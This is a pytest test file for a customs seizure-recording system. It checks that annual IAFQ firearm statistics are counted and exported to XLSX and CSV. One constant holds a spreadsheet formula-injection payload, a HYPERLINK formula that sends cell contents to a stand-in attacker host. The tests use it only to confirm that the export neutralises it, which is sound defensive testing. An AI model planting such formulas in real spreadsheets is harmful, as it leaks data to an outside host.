"""The IAFQ tables end to end: cases recorded through the services, read back by the
statistics service, exported as XLSX and CSV."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from borderdesk.core.clock import FixedClock
from borderdesk.core.errors import UserInputError
from borderdesk.identify.engine import walk_answers
from borderdesk.services.assessments import screen_imported
from borderdesk.services.identification import checklist_for, record_walk
from borderdesk.services.inspections import record_outcome, start_inspection
from borderdesk.services.intake import import_files
from borderdesk.services.seizure_tracing import (
    add_person,
    record_follow_up,
    record_origin,
    record_registry_check,
    record_trace_request,
    record_trace_status,
    tracing_events,
)
from borderdesk.services.seizures import (
    add_ammunition_group,
    add_identified_item,
    add_part_group,
    list_cases,
    set_fields,
    sign_off,
)
from borderdesk.services.station import StationSession, configure_station, open_station
from borderdesk.services.statistics import case_facts, export_iafq, iafq_year
from tests.conftest import declaration
from tests.evidence.helpers import record_minimum_evidence
from tests.identify.conftest import load_case
from tests.rules.helpers import item

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def session(db_path: Path) -> Iterator[StationSession]:
    clock = FixedClock(datetime(2027, 1, 10, 9, 0, tzinfo=UTC))
    with open_station(db_path, actor="tester", clock=clock) as opened:
        configure_station(opened, country="RS", time_zone="Europe/Belgrade")
        yield opened


def open_case(session: StationSession, write_json: Any, declaration_id: str,
              identifications: tuple[str, ...]) -> tuple[str, list[str]]:
    """A case opened by inspecting a screened declaration, and its identifications."""
    report = import_files(session, [write_json([declaration(
        declaration_id, items=[item(hs_code="930200", description="revolvers")],
        documents=[])], f"{declaration_id}.json")])
    screen_imported(session, report)
    inspection = start_inspection(session, declaration_id, "physical").id
    idents = [record_walk(session, inspection, name, walk_answers(
        checklist_for(), load_case(name)["answers"]).walk).id for name in identifications]
    record_outcome(session, inspection, "seizure", "found in the cab")
    case = next(c for c in list_cases(session) if c.declaration_id == declaration_id)
    return case.id, idents


def record_signed_case(session: StationSession, write_json: Any) -> str:
    """A realistic signed-off case of 28 November 2026: a pistol traced to its illicit
    origin, a revolver, 3 slides, 50 rounds and 5 of a calibre read as a formula; a
    foreign woman arrested and prosecuted; the concealment note carries the same string."""
    case, idents = open_case(session, write_json, "RED-1",
                             ("pistol-obliterated-serial", "revolver"))
    set_fields(session, case, {
        "event_type": "seized", "direction": "in", "detection_method": "xray",
        "legal_justification": "illicit_trafficking", "criminal_context": "trafficking",
        "occurred_at": "2026-11-28T09:40", "route_departure": "TR", "route_transit": "BG",
        "route_destination": "AT", "concealment": "other", "concealment_note": INJECTION})
    add_identified_item(session, case, idents[0])
    add_identified_item(session, case, idents[1])
    add_part_group(session, case, "slide", 3, "spare slides")
    add_ammunition_group(session, case, "9 mm Luger", 50)
    add_ammunition_group(session, case, INJECTION, 5)  # a calibre as read, not in the list
    record_minimum_evidence(session, case, ["1", "2", "3", "4", "5"])
    sign_off(session, case)
    record_registry_check(session, case, 1, "not_registered", "2026-12-01")
    request = record_trace_request(session, case, 1, "AT", "interpol", "2026-12-02")
    record_trace_status(session, case, request.id, "answered", "2026-12-20")
    record_trace_request(session, case, 2, "TR", "bilateral", "2026-12-02")
    record_origin(session, case, 1, True, "tracing")
    person = add_person(session, case, "driver", "Ayşe Yılmaz", sex="female",
                        nationality="TR", reason="learnt after sign-off")
    record_follow_up(session, case, person.id, "arrested", "2026-11-28")
    record_follow_up(session, case, person.id, "prosecuted", "2026-12-15")
    return case


def test_a_recorded_case_counts_in_every_table(session: StationSession,
                                               write_json: Any) -> None:
    case = record_signed_case(session, write_json)
    still_open, _ = open_case(session, write_json, "RED-2", ("revolver",))
    set_fields(session, still_open, {"event_type": "found", "occurred_at": "2026-12-01T10:00"})
    tables = iafq_year(session, 2026)
    [number] = tables.counted
    assert tables["arms-by-type"].value("total", "seized") == 2
    assert tables["arms-by-type"].value("pistol", "seized") == 1
    assert tables["parts-components"].value("slide", "pieces") == 3
    assert tables["ammunition"].value("9x19", "rounds") == 50
    assert tables["tracing"].row("requests_sent")["count"] == 2
    assert tables["tracing"].value("requests_answered", "count") == 1
    assert tables["tracing"].value("registry_checks", "count") == 1
    assert [tables["sdg-16-4-2"].value(r, "value") for r in
            ("numerator", "denominator", "proportion")] == [1, 2, 0.5]
    assert tables["persons"].row("prosecuted") == {
        "code": "prosecuted", "name": "Prosecuted", "total": 1, "women": 1, "men": 0,
        "nationals": 0, "foreigners": 1}
    assert tables["routes"].rows[0] == ("TR", "BG", "AT", 1, 2)
    [significant] = tables["significant-seizures"].rows
    assert significant[0] == number and significant[1] == "2026-11-28"
    [left] = tables["events"].left_out
    assert "signed off" in left.reason
    facts = {f.case_number: f for f in case_facts(session)}
    assert facts[number].items[0].trace_statuses == ("answered",)
    assert len(tracing_events(session, case)) == 5


def test_the_export_neutralises_an_injection_in_free_text(
        session: StationSession, write_json: Any, tmp_path: Path) -> None:
    record_signed_case(session, write_json)
    out = tmp_path / "out"
    result = export_iafq(session, 2026, out)
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(p.name for p in result.paths)
    assert "iafq-2026.xlsx" in names and "iafq-2026-sdg-16-4-2.csv" in names
    assert len([n for n in names if n.endswith(".csv")]) == 13  # 12 tables and the notes
    with open(out / "iafq-2026-significant-seizures.csv", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["concealment"] == f"Other: {INJECTION}"  # no formula: starts with "O"
    with open(out / "iafq-2026-ammunition.csv", encoding="utf-8-sig") as f:
        calibres = {r["code"]: r["rounds"] for r in csv.DictReader(f)}
    assert calibres == {"9x19": "50", "'" + INJECTION: "5", "total": "55"}
    with open(out / "iafq-2026-sdg-16-4-2.csv", encoding="utf-8-sig") as f:
        sdg = {r["code"]: r["value"] for r in csv.DictReader(f)}
    assert sdg == {"numerator": "1", "denominator": "2", "proportion": "0.5"}
    book = load_workbook(out / "iafq-2026.xlsx")
    assert book.sheetnames[0] == "Notes" and "sdg-16-4-2" in book.sheetnames
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    ammunition = [r[0] for r in book["ammunition"].iter_rows(values_only=True)]
    assert "'" + INJECTION in ammunition
    sheet = book["sdg-16-4-2"]
    values = {r[0]: r[2] for r in sheet.iter_rows(values_only=True) if r and r[0]}
    assert (values["numerator"], values["denominator"], values["proportion"]) == (1, 2, 0.5)


def test_a_bad_year_or_target_is_refused_in_plain_words(
        session: StationSession, tmp_path: Path) -> None:
    with pytest.raises(UserInputError, match="year must lie between"):
        iafq_year(session, 2031)
    target = tmp_path / "a-file"
    target.write_text("x")
    with pytest.raises(UserInputError, match="not a folder"):
        export_iafq(session, 2026, target)
